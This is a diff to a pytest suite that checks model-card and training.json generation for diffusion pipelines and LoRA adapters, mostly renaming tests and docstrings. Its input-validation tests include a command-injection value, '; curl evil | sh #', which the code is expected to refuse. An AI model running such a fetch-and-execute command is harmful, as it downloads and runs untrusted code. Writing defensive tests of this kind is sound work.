@@ -1,4 +1,4 @@
-"""Cards of pipelines and adapters: facts of their folder, and results that are theirs."""
+"""Cards of pipelines and adapters: facts of their folder, and results of this checkpoint."""
 
 import json
 import shlex
@@ -30,7 +30,7 @@ BRIEF = ("--max_train_steps", 2, "--real_batch_size", 2, "--report_to", "none")
 def improved(
     pipeline: Path, create: Callable[..., Path], tmp_path_factory: pytest.TempPathFactory
 ) -> Path:
-    """What self-improving on created rooms gives, validated."""
+    """A pipeline that self-improved on created rooms, with a validation."""
     folder = tmp_path_factory.mktemp("card")
     created = create(folder / "created")
     command = ("self-improve", "--pipeline", pipeline, *ON_TWO_ROOMS, *BRIEF, *VALIDATE)
@@ -40,7 +40,7 @@ def improved(
 
 @pytest.fixture(scope="module")
 def tuned(tiny_base: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The folder of a warm-up that trained a LoRA; its base says what its licence is."""
+    """The folder of a warm-up that trained a LoRA on a base with a licence."""
     folder = tmp_path_factory.mktemp("tuned")
     shutil.copytree(tiny_base, folder / "base")
     (folder / "base/README.md").write_text("---\nlicense: creativeml-openrail-m\n---\n")
@@ -52,7 +52,7 @@ def tuned(tiny_base: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 @pytest.fixture(scope="module")
 def results(improved: Path) -> Path:
-    """What `d2i1 evaluate` wrote of it."""
+    """The file of `d2i1 evaluate` for this pipeline."""
     file = improved.parent / "results.json"
     flags = ("--source", "rooms:test", "--max_samples", 2, "--flip", "true")
     run("evaluate", "--pipeline", improved, *flags, "--output_file", file)
@@ -67,10 +67,10 @@ def edited(folder: Path, to: Path, name: str, **fields: Any) -> Path:
     return to
 
 
-# --- what training says ---
+# --- training.json ---
 
 
-def test_training_is_told_with_the_stage_before(improved: Path) -> None:
+def test_training_lists_all_stages(improved: Path) -> None:
     training = json.loads((improved / TRAINING).read_text())
     assert [stage["stage"] for stage in training["stages"]] == ["warm-up", "self-improve"]
     first, last = training["stages"]
@@ -87,8 +87,8 @@ def test_training_is_told_with_the_stage_before(improved: Path) -> None:
     assert "base_licence" not in training  # the tiny base has no card
 
 
-def test_validation_is_of_what_is_published(improved: Path) -> None:
-    """Scored again by another way: `d2i1 evaluate` on the same rooms, resized alike."""
+def test_validation_describes_the_published_weights(improved: Path) -> None:
+    """`d2i1 evaluate` on the same rooms, at the same size, gives the same metrics."""
     from d2i1_data.inspection.evaluation.measure import common_tasks, figures, measure
     from d2i1_data.sources import open_rows
 
@@ -97,8 +97,8 @@ def test_validation_is_of_what_is_published(improved: Path) -> None:
     sums = measure(pipe, rows.samples(), tasks)
     scores = figures(tasks, {name: one.sum(0) for name, one in sums.items()})
     stage = json.loads((improved / TRAINING).read_text())["stages"][-1]
-    for name, told in stage["validation"]["tasks"].items():
-        assert told == {key: pytest.approx(scores[name][key], rel=1e-4) for key in told}
+    for name, stored in stage["validation"]["tasks"].items():
+        assert stored == {key: pytest.approx(scores[name][key], rel=1e-4) for key in stored}
 
 
 @pytest.mark.parametrize("act", ["warm-up", "self-improve"])
@@ -107,12 +107,12 @@ def test_the_commands_train_the_same_again(improved: Path, act: str) -> None:
     (typed,) = [line for line in text.splitlines() if line.startswith(f"d2i1 {act} ")]
     settings = ACTS[act].read(shlex.split(typed)[2:])
     stages = json.loads((improved / TRAINING).read_text())["stages"]
-    (told,) = [stage["settings"] for stage in stages if stage["stage"] == act]
-    for key, value in told.items():
+    (stored,) = [stage["settings"] for stage in stages if stage["stage"] == act]
+    for key, value in stored.items():
         assert getattr(settings, key) == value, key
 
 
-def test_training_facts_compute_nothing(improved: Path, tmp_path: Path) -> None:
+def test_training_json_does_not_change_the_fingerprint(improved: Path, tmp_path: Path) -> None:
     before = fingerprint(improved)
     shutil.copytree(improved, tmp_path / "moved")
     (tmp_path / "moved" / TRAINING).unlink()
@@ -122,7 +122,7 @@ def test_training_facts_compute_nothing(improved: Path, tmp_path: Path) -> None:
     assert "## Training" not in model_card(tmp_path / "moved")
 
 
-def test_no_place_of_this_machine_is_told(improved: Path, tuned: Path, results: Path) -> None:
+def test_no_path_of_this_machine_is_written(improved: Path, tuned: Path, results: Path) -> None:
     texts = [model_card(improved, results=[results])]
     for folder in (improved, tuned / "pipeline", tuned / "adapter"):
         texts += [file.read_text() for file in folder.rglob("*.json")]
@@ -134,7 +134,7 @@ def test_no_place_of_this_machine_is_told(improved: Path, tuned: Path, results: 
 # --- the card ---
 
 
-def test_a_pipeline_says_what_it_is(improved: Path) -> None:
+def test_the_card_of_a_pipeline(improved: Path) -> None:
     card = ModelCard.load(improved / "README.md")
     data = card.data.to_dict()
     assert data["library_name"] == "diffusers" and data["pipeline_tag"] == "image-to-image"
@@ -152,7 +152,7 @@ def test_a_pipeline_says_what_it_is(improved: Path) -> None:
     assert images == {"preview.png"} and (improved / "preview.png").is_file()
 
 
-def test_an_adapter_says_what_it_is(tuned: Path) -> None:
+def test_the_card_of_an_adapter(tuned: Path) -> None:
     adapter, whole = (
         ModelCard.load(tuned / name / "README.md") for name in ("adapter", "pipeline")
     )
@@ -166,7 +166,7 @@ def test_an_adapter_says_what_it_is(tuned: Path) -> None:
     assert "preview.png" not in adapter.text  # it was not validated
 
 
-def test_what_loads_them_works(
+def test_the_code_of_the_card_runs(
     improved: Path, tuned: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     image = Rooms("test")[0].image
@@ -175,10 +175,10 @@ def test_what_loads_them_works(
     found: dict[str, Any] = {"image": image}
     exec(own, found)
     assert found["created"].images[0].size == (64, 64)
-    seen = found["pipe"].predict(image).predictions
+    first = found["pipe"].predict(image).predictions
     exec(without_us, found)
     again = found["pipe"].predict(image).predictions
-    assert all((seen[name][0] == again[name][0]).all() for name in seen)
+    assert all((first[name][0] == again[name][0]).all() for name in first)
     own, plain = snippets((tuned / "adapter/README.md").read_text())
     monkeypatch.chdir(tuned)
     base = tuned.parent / "base"
@@ -222,7 +222,7 @@ def test_hosts_are_cited(improved: Path, tmp_path: Path, host: str, author: str)
 @pytest.mark.parametrize(
     ("tasks", "tag"), [(["depth"], "depth-estimation"), (["normals"], "image-to-image")]
 )
-def test_one_task_of_the_hubs_is_its_tag(
+def test_a_single_task_of_the_hub_is_the_tag(
     improved: Path, tmp_path: Path, tasks: list[str], tag: str
 ) -> None:
     config = json.loads((improved / "perception/config.json").read_text())["tasks"]
@@ -231,7 +231,7 @@ def test_one_task_of_the_hubs_is_its_tag(
     assert ModelCard(model_card(copy)).data.pipeline_tag == tag
 
 
-def test_links_change_names_alone(improved: Path) -> None:
+def test_links_change_only_names(improved: Path) -> None:
     links = Links("a/model", adapter="a/lora", dataset="a/data", space="a/space")
     alone, linked = (model_card(improved, one).splitlines() for one in (Links(), links))
     changed = {*linked} - {*alone}
@@ -244,7 +244,7 @@ def test_links_change_names_alone(improved: Path) -> None:
 def test_a_base_is_told_from_an_embedded_one_of_the_same_name(
     tuned: Path, pipeline: Path, tmp_path: Path
 ) -> None:
-    """`~/x/rooms` is called rooms, and is not what comes with the package."""
+    """A base in `~/x/rooms` is called rooms, but it is not the embedded one."""
     light = ("--host", "light", "--width", 16, "--tasks", "normals", "--output_dir", tmp_path)
     lora = ("--train_unet", "lora", "--rank", 2)
     run("warm-up", "--base", "rooms", *ON_TWO_ROOMS, *BRIEF, *light, *lora)
@@ -269,8 +269,8 @@ def test_results_are_those_that_were_measured(improved: Path, results: Path) -> 
     assert found["semseg miou"].task_type == "image-segmentation"
     assert found["normals mean"].task_type == "other"
     for name, one in found.items():
-        task, figure = name.split()
-        assert one.metric_value == measured["tasks"][task][figure]
+        task, metric = name.split()
+        assert one.metric_value == measured["tasks"][task][metric]
         assert (one.dataset_name, one.dataset_split) == ("rooms", "test")
         assert one.metric_args == {"samples": 2, "flip": True}
         assert f"{one.metric_value:.4g}" in card.text
@@ -315,9 +315,7 @@ def test_a_comparison_is_shown_whole(improved: Path, results: Path, tmp_path: Pa
     assert values["depth abs_rel"] == one
 
 
-def test_figures_that_are_not_known_are_left_out(
-    improved: Path, results: Path, tmp_path: Path
-) -> None:
+def test_unknown_metrics_are_left_out(improved: Path, results: Path, tmp_path: Path) -> None:
     content = json.loads(results.read_text())
     content["tasks"]["depth"] = dict.fromkeys(content["tasks"]["depth"], float("nan"))
     file = tmp_path / "results.json"
@@ -328,11 +326,11 @@ def test_figures_that_are_not_known_are_left_out(
     assert "nan" not in card.text
 
 
-# --- what strangers say of their training ---
+# --- a training.json of somebody else ---
 
 
 @pytest.mark.parametrize(
-    "said",
+    "given",
     [
         {"command": ["; curl evil | sh #", "x"]},
         {"command": ["--source", "a", "--b\n--c", "d"]},
@@ -347,20 +345,22 @@ def test_figures_that_are_not_known_are_left_out(
         {"steps": None},
     ],
 )
-def test_what_is_no_training_of_ours_is_refused(
-    improved: Path, tmp_path: Path, said: dict[str, Any]
+def test_another_training_json_is_refused(
+    improved: Path, tmp_path: Path, given: dict[str, Any]
 ) -> None:
     stages = json.loads((improved / TRAINING).read_text())["stages"]
-    stages[-1] |= said
+    stages[-1] |= given
     folder = edited(improved, tmp_path / "copy", TRAINING, stages=stages)
-    with pytest.raises(InputError, match=rf"not a training file of ours .*{next(iter(said))}"):
+    with pytest.raises(InputError, match=rf"not a training file of ours .*{next(iter(given))}"):
         model_card(folder)
 
 
-@pytest.mark.parametrize("said", [{"stages": ["a"]}, {"stages": 1}, {"base_licence": ["mit"]}])
-def test_nor_is_what_has_no_stages(improved: Path, tmp_path: Path, said: dict[str, Any]) -> None:
+@pytest.mark.parametrize("given", [{"stages": ["a"]}, {"stages": 1}, {"base_licence": ["mit"]}])
+def test_a_training_json_without_stages_is_refused(
+    improved: Path, tmp_path: Path, given: dict[str, Any]
+) -> None:
     with pytest.raises(InputError, match="not a training file of ours"):
-        model_card(edited(improved, tmp_path / "copy", TRAINING, **said))
+        model_card(edited(improved, tmp_path / "copy", TRAINING, **given))
 
 
 def test_a_command_is_words_for_a_shell(improved: Path, tmp_path: Path) -> None:
@@ -372,7 +372,7 @@ def test_a_command_is_words_for_a_shell(improved: Path, tmp_path: Path) -> None:
     assert shlex.split(typed) == ["d2i1", act, "--source", source, "--output_dir", act]
 
 
-# --- words stay words ---
+# --- texts stay texts ---
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -380,30 +380,30 @@ def test_nothing_breaks_out_of_the_card(
     improved: Path, results: Path, tmp_path: Path, text: str
 ) -> None:
     pages = []
-    for name, said in (("tame", "word"), ("wild", text)):
-        folder = edited(improved, tmp_path / name, "model_index.json", base=said)
+    for name, given in (("tame", "word"), ("wild", text)):
+        folder = edited(improved, tmp_path / name, "model_index.json", base=given)
         config = json.loads((folder / "perception/config.json").read_text())
-        config["tasks"]["semseg"] |= {"names": [said] * 11}
+        config["tasks"]["semseg"] |= {"names": [given] * 11}
         (folder / "perception/config.json").write_text(json.dumps(config))
         training = json.loads((folder / TRAINING).read_text())
         stage = training["stages"][-1]
-        stage["source"] |= {"name": said, "split": said, "licence": said}
-        stage["created"] |= {"name": said}
-        stage["validation"] |= {"source": said}
-        stage |= {"stage": said, "command": ["--source", said, "--prompt", said]}
-        stage["versions"] |= {"torch": said}
-        (folder / TRAINING).write_text(json.dumps({**training, "base_licence": said}))
+        stage["source"] |= {"name": given, "split": given, "licence": given}
+        stage["created"] |= {"name": given}
+        stage["validation"] |= {"source": given}
+        stage |= {"stage": given, "command": ["--source", given, "--prompt", given]}
+        stage["versions"] |= {"torch": given}
+        (folder / TRAINING).write_text(json.dumps({**training, "base_licence": given}))
         content = json.loads(results.read_text())
-        content |= {"source": said, "split": said, "fingerprint": fingerprint(folder)}
-        content["settings"] |= {"crop": said}
-        content["table"] = {said: content["tasks"]}
+        content |= {"source": given, "split": given, "fingerprint": fingerprint(folder)}
+        content["settings"] |= {"crop": given}
+        content["table"] = {given: content["tasks"]}
         (folder / "results.json").unlink(missing_ok=True)
         file = tmp_path / f"{name}.json"
         file.write_text(json.dumps(content))
-        card = model_card(folder, Links(said, said, said, said, said), [file])
+        card = model_card(folder, Links(given, given, given, given, given), [file])
         pages.append(Page(card))
         data = ModelCard(card).data
         assert data.license == "other" and data.to_dict().get("base_model") is None
-        assert data.eval_results and data.eval_results[0].dataset_name == said
-        assert data.eval_results[0].dataset_split == said
+        assert data.eval_results and data.eval_results[0].dataset_name == given
+        assert data.eval_results[0].dataset_split == given
     assert pages[0].elements == pages[1].elements
